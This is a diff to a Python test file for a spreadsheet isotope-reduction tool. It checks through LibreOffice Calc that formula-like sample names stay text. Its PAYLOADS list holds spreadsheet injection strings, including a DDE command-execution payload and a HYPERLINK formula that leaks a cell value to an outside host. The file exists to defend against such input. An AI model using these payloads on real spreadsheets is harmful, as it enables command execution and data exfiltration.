@@ -93,6 +93,17 @@ def driver_live(ctx: Any, payload: Dict[str, Any]) -> Dict[str, Any]:
                 row.append([cell.getType().value, cell.getString()])
             kinds.append(row)
         out["imported_cells"] = kinds
+        # the imported runs name analyses that Samples does not list: the template's own cell says so
+        doc.calculate()
+        out["after_import"] = _cells_of(doc, payload["notice_cells"])
+        # a filled cell below Measured's template rows, and formula-like text typed as sample names
+        _set(doc, "Measured", payload["below_row"], 0, 1.0)
+        samples = doc.getSheets().getByName("Samples")
+        for k, text in enumerate(payload["payloads"]):
+            samples.getCellByPosition(1, payload["first_row"] - 1 + k).setString(text)
+        doc.calculate()
+        out["after_below"] = _cells_of(doc, payload["notice_cells"])
+        out["copy2"] = commands.write_collaborator_copy(ctx, doc, Path(payload["copy2"]).resolve().as_uri())
     finally:
         doc.close(True)
     return out
@@ -134,16 +145,21 @@ if __name__ != "__main__":
 
     import reduction.demo as demo
     from reduction.workbook import (
+        CAPACITY_CELL,
         CONSTANTS,
         FIRST_ROW,
         ISOCHRON_FIRST_Q_ROW,
         ISOCHRON_QUANTITIES,
         ISOCHRON_SUMMARY_COL,
+        MARKER,
+        MEASURED,
+        ORPHAN_CELL,
         RESULTS,
         SPIKES,
         all_computed_cells,
         evaluate,
         layout_grid,
+        orphan_message,
         read_ods,
         write_xlsx,
     )
@@ -158,6 +174,10 @@ if __name__ != "__main__":
                 "Sample ID,element,date,143Nd/144Nd,143Nd/144Nd 2s,146Nd/144Nd,146Nd/144Nd 2s\n"
                 "SN-99,Nd,2026-05-01,0.5041,4e-6,0.7477,8e-6\n"
                 "=HYPERLINK(\"http://example.invalid\"),+Nd,@SUM(1),-0.5,+1e-6,0.7,1e-6\n")
+
+    #: formula-like text (the injection corpus of tests/engine/test_batch_safety.py)
+    PAYLOADS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x?leak="&Constants!C6,"click me")', "+1+1", "-1+1",
+                "@SUM(1)", "\t=1", "\r=1", '=WEBSERVICE("http://x")')
 
     def _row(grid, sheet, key, col=0, second=None):
         for r in range(FIRST_ROW, len(grid[sheet]) + 1):
@@ -217,7 +237,9 @@ if __name__ != "__main__":
             grids.append(copy.deepcopy(g))
         inputs = [["Samples", r, c] for r in range(FIRST_ROW, FIRST_ROW + 12) for c in range(10)]
         payload = {"book": str(book), "cells": [list(c) for c in cells], "edits": edits, "inputs": inputs,
-                   "copy": str(work / "collaborator.ods"), "run_file": RUN_FILE}
+                   "copy": str(work / "collaborator.ods"), "run_file": RUN_FILE,
+                   "notice_cells": [list(CAPACITY_CELL), list(ORPHAN_CELL)], "below_row": MEASURED.last_row + 2,
+                   "payloads": list(PAYLOADS), "first_row": FIRST_ROW, "copy2": str(work / "collaborator2.ods")}
         pin = work / "live-in.json"
         pin.write_text(json.dumps(payload), encoding="utf-8")
         proc = subprocess.run(["/usr/bin/python3", __file__, "live", str(office.port), str(pin)],
@@ -325,6 +347,31 @@ if __name__ != "__main__":
         assert second[0] == ["TEXT", '=HYPERLINK("http://example.invalid")']
         assert second[1] == ["TEXT", "+Nd"] and second[2] == ["TEXT", "@SUM(1)"]
         assert second[4][0] == "VALUE"                   # -0.5 is a number
+
+
+    def test_template_cells_name_unmatched_runs_and_rows_below_the_template(live):
+        capacity, orphan = live["got"]["after_import"]
+        assert capacity == ""
+        assert orphan == orphan_message(2)           # SN-99 and the formula-like ID of the run file
+        capacity, orphan = live["got"]["after_below"]
+        assert capacity.startswith(f"{MARKER}not reduced in Calc — Measured: 1 filled cell(s) below row "
+                                   f"{MEASURED.last_row}")
+        assert orphan == orphan_message(2)
+
+    def test_collaborator_copy_keeps_formula_like_text_as_text(live):
+        import zipfile
+
+        path = live["work"] / "collaborator2.ods"
+        data = read_ods(path)
+        assert not data.formulas
+        names = [data.grid["Samples"][FIRST_ROW - 1 + k][1] for k in range(len(PAYLOADS))]
+        # Calc keeps a typed CR as a line break (ODF text:line-break, read back as LF): still text
+        typed = [p.replace("\r", "\n") for p in PAYLOADS]
+        assert names == typed
+        xml = zipfile.ZipFile(path).read("content.xml").decode("utf-8")
+        assert "table:formula=" not in xml
+        results = [data.grid["Results"][FIRST_ROW - 1 + k][1] for k in range(len(PAYLOADS))]
+        assert results == typed                       # copied to Results as text, never evaluated
 
 
 if __name__ == "__main__":
